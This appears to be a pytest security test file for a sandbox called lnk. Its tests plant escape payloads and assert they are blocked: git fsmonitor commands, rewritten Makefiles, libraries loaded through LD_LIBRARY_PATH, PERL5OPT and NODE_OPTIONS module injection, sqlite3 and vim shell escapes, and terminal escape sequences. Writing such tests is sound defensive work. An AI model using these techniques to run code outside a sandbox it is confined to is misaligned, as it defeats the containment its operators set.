    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: lnk's environment points a tool's configuration into a write
    folder (direnv's XDG_CONFIG_HOME=~/code/app/.config, GIT_CONFIG_GLOBAL,
    a project's NPM_CONFIG_USERCONFIG): the program writes that file, and
    git, run outside as a tool, runs the fsmonitor command it names. A
    variable of lnk's whose value is a path in a write folder is left out
    of the tools' environment (HOME excepted)."""
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    marker = tmp_path / "pwned"
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    repo.chmod(0o777)
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\n"
                  f"cd {repo} && git status >/dev/null 2>&1\n"
                  "env | grep -c -e ^XDG_CONFIG_HOME= -e ^GIT_CONFIG_GLOBAL= "
                  "-e ^MY_FILES= || true\n")
    base = lnk.env
    lnk.env = lambda extra=None: {
        **base(extra), "XDG_CONFIG_HOME": f"{work}/.config",
        "GIT_CONFIG_GLOBAL": f"{work}/gitconfig",
        "MY_FILES": f"/opt/x:{work}/y"}
    evil = f'[core]\\n\\tfsmonitor = "echo pwned > {marker}; false"\\n'
    cp = sh(lnk, f"mkdir -p .config/git; printf '{evil}' > .config/git/"
            f"config; printf '{evil}' > gitconfig; mytool",
            "--write", work, "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 0, (cp.stdout, cp.stderr)
    assert cp.stdout.strip() == "0", cp.stdout


GIT = "#!/bin/sh\nexec /usr/bin/git \"$@\"\n"


def test_a_tool_never_runs_in_a_repository_an_earlier_sandbox_made(
        tmp_path, lnk, work):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: a sandbox makes a repository below the top of its write folder
    with a core.fsmonitor command; a later sandbox, given that folder only
    to read, calls a granted `git status` there, which runs the command
    outside."""
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o777)
    mark = out / "pwned"
    plant = (f"mkdir sub && cd sub && /usr/bin/git init -q . && "
             f"/usr/bin/git config core.fsmonitor 'touch {mark}; false #'")
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c", plant,
                 timeout=120)
    assert cp.returncode == 0, cp.stderr
    on_lnk_path(lnk, tmp_path / "bin", "git", GIT)
    lnk("sandbox", "tool", "add", "git", "--allow", "status", check=True)
    cp = lnk.run("--read", work, "--tool", "git status", "--",
                 "/bin/sh", "-c", "cd sub && git status", timeout=120)
    assert not mark.exists(), (cp.stdout, cp.stderr)


def test_dialog_tool_gets_no_search_path_of_the_programs_folder(
        lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: the desktop's dialog tool (zenity, a GTK program) ran with
    lnk's raw environment in lnk's folder, a write folder: an empty
    LD_LIBRARY_PATH entry loaded a library the program left there, and
    GTK's own *PATH and *_DIRS variables found its modules there. The
    dialog gets the tools' environment (absolute entries only) in /."""
    import test_ask_desktop as ad
    why = ad._missing()
    if why:
        pytest.skip(why)
    d = ad.Desktop(tmp_path / "desktop")
    try:
        rec = tmp_path / "dialog.json"
        on_lnk_path(lnk, tmp_path / "toolbin4", "mytool", "#!/bin/sh\n",
                    **d.env, LD_LIBRARY_PATH=":/opt/x:lib",
                    GTK_PATH="gtk:/opt/gtk", XDG_DATA_DIRS=":/usr/share")
        (tmp_path / "toolbin4" / "zenity").write_text(
            "#!/usr/bin/python3\nimport json, os\n"
            f"json.dump({{'cwd': os.getcwd(), 'env': dict(os.environ)}}, "
            f"open({str(rec)!r}, 'w'))\nraise SystemExit(1)\n")
        (tmp_path / "toolbin4" / "zenity").chmod(0o755)
        d.server(actions=False)
        cp = lnk.run("--write", work, "--tool", "mytool pr", "--",
                     "/bin/sh", "-c", "mytool issue; echo st=$?",
                     timeout=90)
    finally:
        d.stop()
    assert "st=126" in cp.stdout, (cp.stdout, cp.stderr)
    got = json.loads(rec.read_text())
    assert got["cwd"] == "/", got["cwd"]
    assert got["env"].get("LD_LIBRARY_PATH") == "/opt/x", got["env"]
    assert got["env"].get("GTK_PATH") == "/opt/gtk", got["env"]
    assert got["env"].get("XDG_DATA_DIRS") == "/usr/share", got["env"]


def test_dialog_tool_the_program_can_rewrite_is_not_run(lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: the desktop's dialog tool (zenity, found on lnk's PATH) runs
    outside, as the user, like a tool: one with a second name (a hard
    link) in a write folder, or lying in one, is the program's to rewrite
    before it calls a tool that asks. Such a dialog tool is not used."""
    import test_ask_desktop as ad
    why = ad._missing()
    if why:
        pytest.skip(why)
    marker = tmp_path / "pwned"
    d = ad.Desktop(tmp_path / "desktop")
    try:
        on_lnk_path(lnk, tmp_path / "toolbin4", "mytool", "#!/bin/sh\n",
                    **d.env)
        zen = tmp_path / "toolbin4" / "zenity"
        zen.write_text("#!/bin/sh\nexit 1\n")
        zen.chmod(0o755)
        os.link(zen, work / "zenity")
        d.server(actions=False)
        cp = sh(lnk, f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > "
                "zenity; mytool issue; echo st=$?", "--write", work,
                "--tool", "mytool pr", timeout=90)
    finally:
        d.stop()
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert "st=126" in cp.stdout, (cp.stdout, cp.stderr)


# `export LD_LIBRARY_PATH=$LD_LIBRARY_PATH:/opt/lib` leaves an empty entry,
# the current folder, often a write folder. lnk opens OpenSSL (a model
# route) and libdbus (the desktop's questions) by name, outside: a library
# of that name an earlier sandbox left in the folder would run as the user.
PLANTED_LIB = """
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void planted(void)
{
    int fd = open("@MARKER@", O_WRONLY | O_CREAT | O_APPEND, 0666);
    if (fd >= 0) {
        (void)write(fd, "@NAME@\\n", sizeof("@NAME@\\n") - 1);
        close(fd);
    }
}
"""


@pytest.mark.parametrize("ldpath", [":/nonexistent", "/nonexistent:",
                                    "/nonexistent::/x", ".", "lib"])
def test_library_left_in_the_working_folder_never_loads_outside(
        lnk, work, tmp_path, ldpath):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: a sandbox writes libssl.so.3 and libdbus-1.so.3 into its
    write folder; the next lnk started there, with an empty or relative
    LD_LIBRARY_PATH entry, opens them outside (as the user, or root) for
    a model route and for the desktop's questions."""
    marker = tmp_path / "loaded"
    for d in (work, work / "lib"):
        d.mkdir(exist_ok=True)
        for name in ("libssl.so.3", "libdbus-1.so.3"):
            _cc(tmp_path, PLANTED_LIB.replace("@MARKER@", str(marker))
                .replace("@NAME@", name), d / name, "-shared", "-fPIC")
    on_lnk_path(lnk, tmp_path / "toolbin3", "mytool", "#!/bin/sh\n")
    cp = lnk.run("--write", work, "--tool", "mytool *",
                 "--model", "fake=https://127.0.0.1:9/v1", "--", "true",
                 env={"LD_LIBRARY_PATH": ldpath, "FAKE_API_KEY": "sk-x",
                      "DISPLAY": ":99",
                      "DBUS_SESSION_BUS_ADDRESS":
                      f"unix:path={tmp_path}/no-bus"})
    assert not marker.exists(), (marker.read_text(), cp.stderr)
    assert cp.returncode == 0, (cp.returncode, cp.stdout, cp.stderr)


def test_granted_build_tool_never_runs_what_the_program_wrote(lnk, work,
                                                               tmp_path):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat (the tools' folder rule: a tool never acts where the program
    could have made its configuration): with only `make test` granted, the
    program rewrites the Makefile at the top of its write folder (no dot
    file: nothing keeps it) and calls the tool: make, outside, as the
    user, runs the program's recipe. The same with `npm test`
    (package.json), `cargo build` (build.rs), `pytest` (conftest.py)."""
    (work / "Makefile").write_text("test:\n\ttrue\n")
    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
    cp = lnk.run("--write", work, "--tool", "make test", "--", "/bin/sh",
                 "-c", f"cd '{work}' && printf 'test:\\n\\ttouch {mark}\\n' "
                 f"> Makefile; make test; echo st=$?")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)
    # refused in lnk's words, naming why and what to do instead
    assert "run the program's code outside the sandbox" in cp.stderr, \
        cp.stderr


def test_build_tool_at_a_read_folders_top_never_runs_another_sandboxs_file(
        lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing a program can write.

    Threat (the tools' folder rule): one sandbox, with no tool at all,
    writes the Makefile at the top of its write folder; another sandbox
    reads that folder (--read) and is granted exactly `make test` there.
    Its call runs outside, as the user, and make runs the first
    sandbox's recipe: no dot name, so nothing kept it, and a folder a
    sandbox reads is one another sandbox may write (beside it or
    before it). The same call below the read folder's top was already
    refused for that reason."""
    if not shutil.which("make"):
        pytest.skip("make is not installed")
    (work / "Makefile").write_text("test:\n\ttrue\n")
    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                 f"printf 'test:\\n\\ttouch {mark}\\n' > '{work}/Makefile'")
    assert cp.returncode == 0, cp.stderr
    cp = lnk.run("--read", work, "--tool", "make test", "--", "/bin/sh",
                 "-c", f"cd '{work}' && make test; echo st=$?")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)
    # refused in lnk's words: why, and what to do instead
    assert "another sandbox may have written" in cp.stderr, cp.stderr
    assert "st=126" in cp.stdout, (cp.stdout, cp.stderr)


def test_an_exact_grant_of_a_tool_that_reads_commands_gets_no_input(
        lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: whatever acts for
    the program outside does exactly what the person allowed, word for
    word.

    Threat: `--tool 'sqlite3 app.db'` is as exact as a grant gets, but the
    broker handed sqlite3 the program's standard input, and sqlite3 runs
    what it reads there: `.shell touch MARK` ran a program outside, as
    the user (psql's \\!, gdb's shell, a shell's input the same). Such a
    tool gets no input from the program now, and lnk says why; a
    statement named in the grant's arguments still runs."""
    if not shutil.which("sqlite3"):
        pytest.skip("sqlite3 is not installed")
    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
    cp = lnk.run("--write", work, "--tool", "sqlite3 app.db", "--tool",
                 "sqlite3 app.db SELECT(40+2);", "--", "/bin/sh", "-c",
                 f"cd '{work}' && printf '.shell touch {mark}\\n' | "
                 "sqlite3 app.db; echo st=$?; "
                 "sqlite3 app.db 'SELECT(40+2);'")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)
    assert "reads commands on its input" in cp.stderr, cp.stderr
    assert "42" in cp.stdout.split("st=")[1], (cp.stdout, cp.stderr)


@pytest.mark.parametrize("tool,args,gets", [
    ("bash", [], False), ("python3", [], False), ("python3", ["-"], False),
    ("python3", ["-m", "json.tool"], True), ("gdb", ["-q"], False),
    ("jq", ["."], True), ("python3", ["-q"], False),
    ("python3", ["-W", "ignore"], False), ("python3", ["-i", "t.py"], False),
    ("node", ["-i"], False), ("perl", ["-w"], False), ("m4", ["-"], False),
    ("vim.basic", ["-es"], False), ("awk", ["-f", "-"], False),
    ("sed", ["-f", "/dev/stdin", "x"], False),
    ("python3", ["-c", "pass"], True), ("awk", ["{print}"], True)])
def test_which_tools_get_the_programs_input(lnk, work, tmp_path, tool, args,
                                            gets):
    """Invariant 8 (what runs outside later), promise: whatever acts for
    the program outside does exactly what the person allowed.

    Threat: a tool whose input is commands (a shell, an interpreter given
    no script, a debugger) runs the program's; it gets no input from the
    program now, while one whose input is data (a script's, jq's) does. The
    tool here stands in for the real one: it reports what it reads. The
    run grants no folder, so the tool acts in / (most of these are
    refused at a write folder's top, as they obey the project's
    files)."""
    on_lnk_path(lnk, tmp_path / "toolbin", tool,
                "#!/bin/sh\nprintf 'read:%s\\n' \"$(cat)\"\n")
    call = " ".join([tool] + args)
    cp = lnk.run("--tool", f"{tool} *", "--", "/bin/sh", "-c",
                 f"echo hello | {call}; echo st=$?")
    assert "st=0" in cp.stdout, (cp.stdout, cp.stderr)
    assert ("read:hello" in cp.stdout) == gets, (cp.stdout, cp.stderr)
    assert ("reads commands on its input" in cp.stderr) != gets, cp.stderr


def test_a_tool_is_judged_by_the_program_that_runs(lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: whatever acts for
    the program outside does exactly what the person allowed; a tool is
    judged by what it is, never by how it is spelled.

    Threat: Debian's `editor`, `rview` and `rvim` (and a link of the
    user's) lead to vim, but the broker judged a tool by the name granted:
    `--tool 'editor notes.txt'` gave vim the program's input, and `:!id`
    ran outside, as the user. The tool here stands in for vim (named
    vim.basic, reached through a link named myedit): it reports what it
    reads; at a write folder's top it is refused as vim is."""
    real = on_lnk_path(lnk, tmp_path / "toolbin", "vim.basic",
                       "#!/bin/sh\nprintf 'read:%s\\n' \"$(cat)\"\n")
    (tmp_path / "toolbin" / "myedit").symlink_to(real)
    cp = lnk.run("--tool", "myedit *", "--", "/bin/sh", "-c",
                 "cd / && echo ':!id' | myedit notes.txt; echo st=$?")
    assert "st=0" in cp.stdout, (cp.stdout, cp.stderr)
    assert "read::!id" not in cp.stdout, (cp.stdout, cp.stderr)
    assert "reads commands on its input" in cp.stderr, cp.stderr
    cp = lnk.run("--write", work, "--tool", "myedit *", "--", "/bin/sh",
                 "-c", f"cd '{work}' && myedit notes.txt </dev/null; "
                 "echo st=$?")
    assert "st=0" not in cp.stdout, (cp.stdout, cp.stderr)
    assert "obeys the project's own files" in cp.stderr, cp.stderr


def test_the_accounts_own_home_is_no_plain_write_folder(lnk, work):
    """Invariant 8 (what runs outside later), promise: a write grant never
    lets the program leave startup files in a home; the home is judged by
    what it is.

    Threat: with HOME set elsewhere (a script's, sudo's, this suite's),
    lnk kept the dot files of HOME only: a write grant of the account's
    own home (/etc/passwd's) took .bash_aliases and bin/, and the next
    login ran them. Such a grant is refused, saying why; nothing runs."""
    import pwd
    account = os.path.realpath(pwd.getpwuid(os.getuid()).pw_dir)
    if os.path.realpath(lnk.home) == account:
        pytest.skip("HOME is the account's home here")
    if not os.path.isdir(account):
        pytest.skip(f"the account's home {account} does not exist")
    cp = lnk.run("--write", account, "--", "/bin/sh", "-c", "echo ran")
    assert cp.returncode != 0, (cp.stdout, cp.stderr)
    assert "ran" not in cp.stdout
    assert "your account's home" in cp.stderr, cp.stderr


# vi, and the pagers and screen tools that read their keys from stderr
# when they have no terminal (util-linux more, pg, less, text browsers,
# file managers, top, mail readers: each has a shell escape or a kill).
KEYS_FROM_STDERR = ["vi", "more", "pg", "less", "most", "w3m", "lynx", "mc",
                    "top", "htop", "mutt", "tig", "telnet"]


@pytest.mark.parametrize("tool", KEYS_FROM_STDERR)
def test_a_tool_that_reads_commands_never_gets_the_programs_socket(
        lnk, tmp_path, tool):
    """Invariant 8 (what runs outside later), promise: whatever acts for
    the program outside does exactly what the person allowed.

    Threat: vi, given no input, takes its keys from its error output when
    that is no terminal: the program passed one end of a socket pair as
    stderr and typed `:!id` into the other, and `vi -` ran it outside. A
    tool that reads commands is refused when its output or error output
    is a socket. The tool here stands in for vi: it reads fd 2.
    util-linux's more does the same with `!cmd`, on an exact grant such
    as `more README`."""
    mark = tmp_path / "OUTSIDE_MARK"
    on_lnk_path(lnk, tmp_path / "toolbin", tool,
                "#!/bin/sh\nread -r cmd <&2 && sh -c \"$cmd\"\n"
                "echo tool-ran\n")
    prog = ("import socket, subprocess\n"
            "a, b = socket.socketpair()\n"
            f"a.sendall(b'touch {mark}\\n')\n"
            f"p = subprocess.run(['{tool}', 'README'], stderr=b, "
            "stdout=subprocess.PIPE)\n"
            "print('st=%d' % p.returncode)\n")
    cp = lnk.run("--tool", f"{tool} README", "--", "python3", "-c", prog)
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)


def test_a_hooks_folder_is_no_write_folder(lnk, home, tmp_path):
    """Invariant 8 (what runs outside later), promise: git's hooks are
    read only to the program unless --write-dot-files names the folder.

    Threat: the hooks folder kept inside a write folder was writable when
    it was the write folder itself: --write repo/.git/hooks, or the
    folder the user's core.hooksPath names (~/.githooks), took a
    pre-commit that the user's next commit ran outside. Such a grant is
    refused, saying why; --write-dot-files lets it write."""
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    hooks = repo / ".git" / "hooks"
    mine = home / ".githooks"
    mine.mkdir()
    (home / ".gitconfig").write_text("[core]\n\thooksPath = ~/.githooks\n")
    for w in (hooks, mine):
        cp = lnk.run("--write", w, "--", "/bin/sh", "-c",
                     f"printf '#!/bin/sh\\n' > '{w}/pre-commit'")
        assert cp.returncode == 125, (w, cp.stderr)
        assert "git runs the hooks" in cp.stderr or \
            "core.hooksPath names it" in cp.stderr, cp.stderr
        assert not (w / "pre-commit").exists()
    cp = lnk.run("--write", hooks, "--write-dot-files", hooks, "--",
                 "/bin/sh", "-c", f"printf '#!/bin/sh\\n' > '{hooks}/x'")
    assert cp.returncode == 0, cp.stderr


# Tools that run what a file of the project's says, with the file: ctest
# runs CTestTestfile.cmake's add_test commands, autoreconf and aclocal
# feed configure.ac through m4 (whose esyscmd runs a shell command),
# Debian's other names of listed tools, shells given a script.
PROJECT_FILE_TOOLS = [
    ("ctest", "CTestTestfile.cmake"),
    ("cpack", "CPackConfig.cmake"),
    ("autoreconf", "configure.ac"),
    ("aclocal", "configure.ac"),
    ("m4", "configure.ac"),
    ("yarnpkg", "package.json"),
    ("pytest-3", "conftest.py"),
    ("nodejs", "index.js"),
    ("pylint", "pylintrc"),
    ("sh", "build.sh"),
    ("bash", "build.sh"),
    ("rbash", "build.sh"),
    ("prove", "t.t"),
    ("py.test-3", "conftest.py"),
    ("perl5.36-x86_64-linux-gnu", "b.pl"),
    ("make-first-existing-target", "Makefile"),
    ("awk", "report.awk"),
    ("sed", "fix.sed"),
    ("tclsh", "build.tcl"),
    ("vim.basic", "s.vim"),
    ("java", "Tool.java"),
    ("bats", "t.bats"),
    ("pydoc3", "mymod.py"),
    ("lua5.4", "b.lua"),
]


@pytest.mark.parametrize("tool,file", PROJECT_FILE_TOOLS,
                         ids=[t for t, _ in PROJECT_FILE_TOOLS])
def test_granted_tool_never_runs_the_projects_file(lnk, work, tmp_path, tool,
                                                   file):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: with only `ctest --output-on-failure` granted (or autoreconf,
    a shell and its script, Debian's yarnpkg or pytest-3), the program
    writes the file the tool obeys at the top of its write folder
    (CTestTestfile.cmake's add_test, configure.ac's esyscmd: no dot name,
    nothing keeps it) and calls the tool, which runs it outside, as the
    user. The tool here stands in for the real one: it runs the file."""
    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
    on_lnk_path(lnk, tmp_path / "toolbin", tool,
                f"#!/bin/sh\n[ -f '{file}' ] && . './{file}'\n"
                "echo tool-ran\n")
    cp = lnk.run("--write", work, "--tool", f"{tool} *", "--", "/bin/sh",
                 "-c", f"cd '{work}' && echo 'touch {mark}' > '{file}'; "
                 f"{tool} x; echo st=$?")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)
    assert "run the program's code outside the sandbox" in cp.stderr, \
        cp.stderr


@pytest.mark.parametrize("wrapper", ["env", "nice", "timeout 30", "xargs",
                                     "nohup", "stdbuf -o0", "setsid",
                                     "fakeroot", "prlimit", "ssh-agent",
                                     "dbus-run-session --"])
def test_granted_wrapper_never_runs_a_build_tool(lnk, work, tmp_path,
                                                 wrapper):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: make is never let act at the top of a write folder, but `env
    *` (or nice, timeout, xargs...) is granted: the program calls `env
    make test` after rewriting the Makefile, and the wrapper starts make
    outside, which runs the program's recipe, as the user."""
    if not shutil.which("make"):
        pytest.skip("make is not installed")
    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
    first = wrapper.split()[0]
    run = f"echo make test | {first}" if first == "xargs" else \
        f"{wrapper} make test"
    cp = lnk.run("--write", work, "--tool", f"{first} *", "--", "/bin/sh",
                 "-c", f"cd '{work}' && printf 'test:\\n\\ttouch {mark}\\n' "
                 f"> Makefile; {run}; echo st=$?")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)
    assert "run the program's code outside the sandbox" in cp.stderr, \
        cp.stderr


@pytest.mark.parametrize("tool", ["gtags", "global", "htags"])
def test_granted_tag_tool_never_loads_what_the_program_wrote(lnk, work,
                                                             tmp_path, tool):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: with `gtags` (or `global -u`, `htags`) granted, the program
    writes `obj/gtags.conf` at the top of its write folder, GNU GLOBAL's
    objdir config, read when the project root has no gtags.conf (no dot
    name: nothing keeps it); its `gtags_parser` names a shared object the
    program wrote, which the tool loads outside, as the user. The tool
    here stands in for GLOBAL: it runs what obj/gtags.conf names."""
    mark = tmp_path / "OUTSIDE_MARK"  # outside every grant
    on_lnk_path(lnk, tmp_path / "tagbin", tool,
                "#!/bin/sh\n[ -f obj/gtags.conf ] && . ./obj/gtags.conf\n"
                "echo tool-ran\n")
    cp = lnk.run("--write", work, "--tool", f"{tool} *", "--", "/bin/sh",
                 "-c", f"cd '{work}' && mkdir -p obj && "
                 f"echo 'touch {mark}' > obj/gtags.conf; {tool} -u; "
                 f"echo st=$?")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)
    assert "run the program's code outside the sandbox" in cp.stderr, \
        cp.stderr


TOOL_ENV_CASES = [
    # variable, its value ({work} the write folder), what the program
    # writes there, the interpreter the tool runs
    ("PERL5OPT", "-I{work}/lib -Mevil", "lib/evil.pm",
     'system("touch {mark}"); 1;', "perl -e 'print qq(tool-ran\\n)'"),
    ("NODE_OPTIONS", "--require {work}/hook.js", "hook.js",
     'require("fs").writeFileSync("{mark}", "")',
     "node -e 'console.log(\"tool-ran\")'"),
]


@pytest.mark.parametrize("var,value,target,text,run", TOOL_ENV_CASES,
                         ids=[c[0] for c in TOOL_ENV_CASES])
def test_tool_environment_names_no_file_of_the_program(lnk, work, tmp_path,
                                                       var, value, target,
                                                       text, run):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: lnk's environment holds an interpreter's options that name a
    file in the project (PERL5OPT=-I~/code/app/lib -Mdev,
    NODE_OPTIONS=--require ~/code/app/hook.js, set by direnv): the tools
    broker dropped a variable naming a write folder only when its value
    (or a ':' piece of it) started with that path, so an option word
    naming it reached the tool, and a granted tool's perl or node loaded
    the program's module, outside, as the user."""
    mark = tmp_path / "OUTSIDE_MARK"
    on_lnk_path(lnk, tmp_path / "toolbin", "mytool",
                f"#!/bin/sh\nexec {run}\n",
                **{var: value.format(work=work)})
    # rule E keeps the file now (the write is refused); the tool must
    # load nothing of the program's either way
    script = (f"mkdir -p '{work}/{os.path.dirname(target) or '.'}'; "
              f"printf '%s\\n' '{text.format(mark=mark)}' > '{work}/{target}'"
              f"; mytool run")
    cp = lnk.run("--write", work, "--tool", "mytool run", "--", "/bin/sh",
                 "-c", script)
    assert "tool-ran" in cp.stdout, (cp.stdout, cp.stderr)
    assert not mark.exists(), (cp.stdout, cp.stderr)


def test_tool_environment_relative_option_path(lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a tool, a dialog tool
    and lnk itself run outside and run or load nothing the program can write.

    Threat: lnk's PERL5OPT is `-Ilib -Mdev` (a developer's, for their
    project); a granted tool running perl starts at the top of the write
    folder, where lib/dev.pm is the program's."""
    mark = tmp_path / "OUTSIDE_MARK"
    on_lnk_path(lnk, tmp_path / "toolbin", "mytool",
                "#!/bin/sh\nexec perl -e 'print qq(tool-ran\\n)'\n",
                PERL5OPT="-Ilib -Mdev")
    cp = lnk.run("--write", work, "--tool", "mytool run", "--", "/bin/sh",
                 "-c", f"cd '{work}' && mkdir -p lib && "
                 f"echo 'system(\"touch {mark}\"); 1;' > lib/dev.pm && "
                 "mytool run")
    assert "tool-ran" in cp.stdout, (cp.stdout, cp.stderr)
    assert not mark.exists(), (cp.stdout, cp.stderr)


# A tool's interpreter in a folder outside every grant, which a bind mount
# shows inside the write folder: the program rewrites it there and calls
# the tool.
TOOL_INTERP_SHOWN_INSIDE = """
    mount --bind '{outside}' '{work}/mnt' || exit 99
    {lnk} sandbox run --write '{work}' --tool 'mytool *' -- /bin/sh -c \
        'cat evil > mnt/interp; mytool hi'
    echo "rc=$?" >&2
    exit 0
"""


def test_tool_interpreter_shown_inside_a_write_folder_is_refused(
        lnk, work, tmp_path):
    """Invariant 8 (what runs outside later), promise: a tool runs nothing
    the program can write, judged by what the file is.

    Threat: the tool's interpreter lies in a folder outside the grants
    that a bind mount shows inside the write folder (a container's bind,
    a second mount): its path is in no write folder, so the start let the
    tool through; the program rewrote the interpreter through the bind,
    called the tool, and its code ran outside, as the user."""
    marker = tmp_path / "pwned"
    outside = tmp_path / "interpdir"
    outside.mkdir()
    outside.chmod(0o755)
    interp = outside / "interp"
    interp.write_text("#!/bin/sh\nexec /bin/sh \"$@\"\n")
    interp.chmod(0o755)
    _tool_on_path(lnk, tmp_path, f"#!{interp}\necho honest\n")
    (work / "mnt").mkdir()
    (work / "evil").write_text(f"#!/bin/sh\necho pwned > {marker}\n")
    cp = in_private_mounts(lnk, TOOL_INTERP_SHOWN_INSIDE.format(
        work=work, outside=outside, lnk=lnk_under_mounts(lnk)))
    if cp.returncode == 99:
        pytest.skip("cannot bind mount here: " + cp.stderr)
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert "rc=2" in cp.stderr and "write folder" in cp.stderr, cp.stderr


@pytest.mark.parametrize("tool,call,planted", [
    ("docker", "compose up", "compose.yaml"),
    ("podman", "compose up", "compose.yaml"),
    ("eslint", ".", "eslint.config.js"),
    ("jest", "--ci", "jest.config.js"),
    ("mypy", ".", "mypy.ini"),
])
def test_granted_tool_never_runs_the_projects_config_it_obeys(
        lnk, work, tmp_path, tool, call, planted):
    """Invariant 8 (what runs outside later), promise: a tool runs nothing
    the program can write (the tools' folder rule: a tool that obeys the
    project's own files never acts at a write folder's guarded top).

    Threat: the table of such tools lacked the container CLIs and the
    linters and test runners whose configuration is code: with `docker
    compose up` granted the program writes compose.yaml at the top (a
    privileged service that binds /) and calls the tool, which runs as
    the user outside; `eslint .` runs eslint.config.js, `jest` its
    config, mypy the plugins mypy.ini names. The stand-in tool here marks
    that it ran where the real one would have obeyed the file."""
    mark = tmp_path / "OUTSIDE_MARK"
    on_lnk_path(lnk, tmp_path / "fakebin", tool,
                f"#!/bin/sh\n[ -e {planted} ] && touch {mark}\n")
    cp = lnk.run("--write", work, "--tool", f"{tool} {call}", "--",
                 "/bin/sh", "-c",
                 f"cd '{work}' && echo planted > {planted}; "
                 f"{tool} {call}; echo st=$?")
    assert "st=" in cp.stdout, cp.stderr
    assert not mark.exists(), (cp.stdout, cp.stderr)
    assert "run the program's code outside the sandbox" in cp.stderr, \
        cp.stderr


# =============================================================================
# H. Escapes in lnk's own output
#    Promise: what lnk prints of what others chose is escaped: no escape
#    sequence reaches the user's terminal.
# =============================================================================


# ESC ] 0 (window title), OSC 52 (clipboard write), clear screen, the C1 CSI
# character U+009B, a right-to-left override, an isolate and a tag character.
HOSTILE = ("\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[H"
           "\u009b31m\u202e\u2066\U000e0041x")


# The same as raw bytes that are no UTF-8: a lone C1 byte, an overlong '/'.
HOSTILE_BYTES = HOSTILE.encode() + b"\x9b\xc0\xaf"


def lnk_raw(lnk, *args, input=None, env=None, timeout=120):
    """lnk ARGS with bytes out (hostile output need not be UTF-8)."""
    return subprocess.run([lnk.bin, *args], cwd=str(lnk.cwd), input=input,
                          capture_output=True, timeout=timeout,
                          env=lnk.env(env))


def test_shebang_interpreter_is_escaped(lnk, work):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    Threat: a script the program wrote names an interpreter made of
    escape sequences; lnk's refusal prints it to the user's terminal."""
    plant(lnk, work, f"""
        import os
        with open("build.sh", "wb") as f:
            f.write(b"#!/nonexistent/" + {HOSTILE_BYTES!r} + b"\\necho hi\\n")
        os.chmod("build.sh", 0o755)
    """)
    cp = lnk_raw(lnk, "sandbox", "run", "--write", str(work), "--command",
                 "sh", "--", "./build.sh")
    assert cp.returncode != 0
    assert b"is a script run by" in cp.stderr, cp.stderr
    assert_clean(cp.stderr, "run's stderr")
    assert_clean(cp.stdout, "run's stdout")
    # shown, escaped: ESC, the C1 character, the override, the raw byte
    for shown in (b"\\x1b]0;pwned\\x07", b"\\u{9b}31m", b"\\u{202e}",
                  b"\\x9b\\xc0\\xaf"):
        assert shown in cp.stderr, cp.stderr


def test_trust_refusal_without_terminal_is_escaped(lnk, work):
    """Invariant 8 (what runs outside later), promise: what lnk prints of what
    others chose is escaped: no escape sequence reaches the user's terminal.

    The spec's path (a folder a cloned repository named) in the refusal
    when there is no terminal to ask on."""
    d = os.path.join(os.fsencode(work), HOSTILE_BYTES)
    os.mkdir(d)
    with open(os.path.join(d, b"app.toml"), "w") as f:
        f.write('version = 1\n[commands]\nallow = ["true"]\n')
    cp = lnk_raw(lnk, "sandbox", "run", "--spec",
                 os.path.join(d, b"app.toml"), "--", "true",
                 input=b"")
    assert cp.returncode != 0
